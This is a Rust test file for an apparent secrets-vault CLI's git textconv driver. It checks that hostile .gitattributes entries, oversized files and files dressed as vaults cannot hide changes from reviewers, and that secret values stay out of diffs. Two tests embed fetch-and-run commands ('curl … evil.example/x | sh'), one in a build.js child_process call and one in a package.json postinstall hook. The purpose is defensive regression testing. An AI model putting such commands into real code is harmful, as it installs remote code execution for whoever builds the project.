//! `git textconv` renders only vaults, with real git: any other file a `.gitattributes` line
//! sends to it is passed through byte for byte (so a hostile `*.js diff=mpvault` hides
//! nothing), a file larger than a vault may be is streamed, and a vault's build modes show in
//! `git diff`.

use crate::common;

use common::repo::git_cmd;
use common::*;

/// The project as a git repository with the vault committed and `mpvault git setup` done.
fn repository() -> (World, Person) {
    let w = World::new();
    let alice = w.owner_with_app();
    w.git_with_vault();
    w.ok(&alice, &["git", "setup"]);
    w.git(&["add", ".gitattributes"]);
    w.git(&["commit", "-qm", "git setup"]);
    (w, alice)
}

/// Runs git as `who` in the project, isolated from the tester's git config; its stdout.
fn git(w: &World, who: &Person, args: &[&str]) -> Vec<u8> {
    let out = git_cmd(w, who, &w.project()).args(args).output().unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

fn git_text(w: &World, who: &Person, args: &[&str]) -> String {
    String::from_utf8(git(w, who, args)).unwrap()
}

fn commit_all(w: &World, who: &Person, message: &str) {
    git(w, who, &["add", "-A"]);
    git(w, who, &["commit", "-qm", message]);
}

/// Regression (issue 19, case 5): a committed `*.js diff=mpvault` line made every `.js` file
/// render as "(not a readable mpvault vault …)", so a `curl … | sh` added to build.js was
/// invisible in `git diff` and `git log -p`.
#[test]
fn a_hostile_attributes_line_hides_no_change_to_a_script() {
    let (w, alice) = repository();
    let attributes = std::fs::read_to_string(w.path(".gitattributes")).unwrap();
    std::fs::write(w.path(".gitattributes"), attributes + "*.js diff=mpvault\n").unwrap();
    std::fs::write(w.path("build.js"), "console.log('build');\n").unwrap();
    commit_all(&w, &alice, "build script");
    let evil = "require('child_process').execSync('curl -fsSL https://evil.example/x | sh');";
    std::fs::write(
        w.path("build.js"),
        format!("console.log('build');\n{evil}\n"),
    )
    .unwrap();
    // The work tree's change, then the committed one.
    let diff = git_text(&w, &alice, &["diff"]);
    assert!(diff.contains(&format!("+{evil}")), "{diff}");
    commit_all(&w, &alice, "faster build");
    let log = git_text(&w, &alice, &["log", "-p", "--", "build.js"]);
    assert!(log.contains(&format!("+{evil}")), "{log}");
    assert!(log.contains("+console.log('build');"), "{log}");
    assert!(!log.contains("mpvault vault"), "{log}");
    // What git hands textconv comes back as it is.
    let shown = git(&w, &alice, &["cat-file", "--textconv", "HEAD:build.js"]);
    assert_eq!(shown, std::fs::read(w.path("build.js")).unwrap());
}

/// A bit pattern that is neither text nor a repetition git could compress away, with newlines.
fn big_pattern(len: usize) -> Vec<u8> {
    let mut state: u32 = 0x9e37_79b9;
    (0..len)
        .map(|i| {
            state ^= state << 13;
            state ^= state >> 17;
            state ^= state << 5;
            if i % 97 == 96 {
                b'\n'
            } else {
                state.to_le_bytes()[0]
            }
        })
        .collect()
}

/// Regression (issue 19, case 5): textconv read any file whole before deciding; a file larger
/// than a vault may be is now streamed through unchanged.
#[test]
fn a_20_mb_file_sent_to_textconv_comes_back_byte_for_byte() {
    let (w, alice) = repository();
    std::fs::write(w.path(".gitattributes"), "*.bin diff=mpvault\n").unwrap();
    let big = big_pattern(20 << 20);
    std::fs::write(w.path("model.bin"), &big).unwrap();
    commit_all(&w, &alice, "a large file");
    let shown = git(&w, &alice, &["cat-file", "--textconv", "HEAD:model.bin"]);
    assert!(
        shown.len() == big.len() && shown == big,
        "changed in passing"
    );
    let direct = w
        .cmd(&alice)
        .args(["git", "textconv", "model.bin"])
        .output()
        .unwrap();
    assert!(direct.status.success());
    assert!(direct.stdout == big, "changed in passing");
}

/// A file that names a vault id but is not a vault (a line merge broke it, or a hostile file
/// dressed as one) is shown as it is, after one line saying so: its lines are what a
/// reviewer must see.
#[test]
fn a_broken_vault_is_shown_as_it_is_after_a_note() {
    let (w, alice) = repository();
    let text = w.vault_text();
    let broken = text.replacen("\"apps\": {", "\"apps\": {\n<<<<<<< HEAD", 1);
    std::fs::write(w.vault_path(), &broken).unwrap();
    let out = w.ok(&alice, &["git", "textconv", "mpvault.json"]);
    let (note, rest) = out.split_once('\n').unwrap();
    assert!(note.contains("not a vault this mpvault reads"), "{note}");
    assert_eq!(rest, broken);
}

/// A file that parses as a vault but holds a field the model does not (a `package.json` sent
/// to textconv by `.gitattributes`, with a vault's fields added) would have that field hidden
/// by a rendering: it is shown as it is.
#[test]
fn a_file_dressed_as_a_vault_hides_no_field() {
    let (w, alice) = repository();
    let text = w.vault_text();
    let mut v: serde_json::Value = serde_json::from_str(&text).unwrap();
    v["scripts"] = serde_json::json!({"postinstall": "curl https://evil.example/x | sh"});
    let dressed = serde_json::to_string_pretty(&v).unwrap();
    std::fs::write(w.path("package.json"), &dressed).unwrap();
    let out = w.ok(&alice, &["git", "textconv", "package.json"]);
    assert!(out.ends_with(&dressed), "{out}");
    assert!(out.contains("curl https://evil.example/x | sh"), "{out}");
}

#[test]
fn the_vault_is_still_rendered_without_base64() {
    let (w, alice) = repository();
    w.ok_stdin(&alice, &["add-secret", "shop", "--stdin"], APPSECRET);
    commit_all(&w, &alice, "AppSecret");
    let shown = git_text(&w, &alice, &["cat-file", "--textconv", "HEAD:mpvault.json"]);
    for expected in [
        "mpvault vault ",
        "policy revision ",
        "members:",
        "alice (owner): age key",
        &format!("app shop ({APPID})"),
        "secret WECHAT_APPSECRET (developer):",
        "    v1 set by alice at ",
    ] {
        assert!(shown.contains(expected), "{expected:?} in:\n{shown}");
    }
    assert!(
        !shown.contains("\"value\"") && !shown.contains(APPSECRET),
        "{shown}"
    );
}

/// Issue 19, case 2 (the diff view): a reviewer sees per-mode bundle and build config in
/// `git diff`, including a ciphertext copied from one mode into another by hand.
#[test]
fn a_mode_change_shows_in_git_diff() {
    let (w, alice) = repository();
    w.ok(
        &alice,
        &[
            "config",
            "set",
            "shop",
            "API_BASE=http://localhost",
            "--mode",
            "development",
        ],
    );
    commit_all(&w, &alice, "development API");
    w.ok(
        &alice,
        &[
            "config",
            "set",
            "shop",
            "API_BASE=https://api.example.com",
            "--mode",
            "production",
        ],
    );
    w.ok(
        &alice,
        &[
            "config",
            "set",
            "shop",
            "--build",
            "SENTRY_ENV=prod",
            "--mode",
            "production",
        ],
    );
    let diff = git_text(&w, &alice, &["diff"]);
    assert!(
        diff.contains("+  mode production config API_BASE: set by alice at ")
            && diff.contains("+  mode production build SENTRY_ENV: set by alice at "),
        "{diff}"
    );
    assert!(!diff.contains("api.example.com"), "{diff}");
    git(&w, &alice, &["checkout", "--", "mpvault.json"]);
    // The development ciphertext copied into production by hand: a new production line, with
    // the development value's tag.
    edit(&w, |v| {
        let shop = &mut v["apps"]["shop"]["modes"];
        shop["production"] = serde_json::json!({"API_BASE": shop["development"]["API_BASE"]});
    });
    let diff = git_text(&w, &alice, &["diff"]);
    let tag = |line: &str| line.rsplit_once('[').map(|(_, t)| t.to_string());
    let development = diff
        .lines()
        .find(|l| l.contains("mode development config API_BASE"))
        .and_then(tag);
    let production = diff
        .lines()
        .find(|l| l.starts_with("+  mode production config API_BASE"))
        .and_then(tag);
    assert!(production.is_some() && production == development, "{diff}");
}
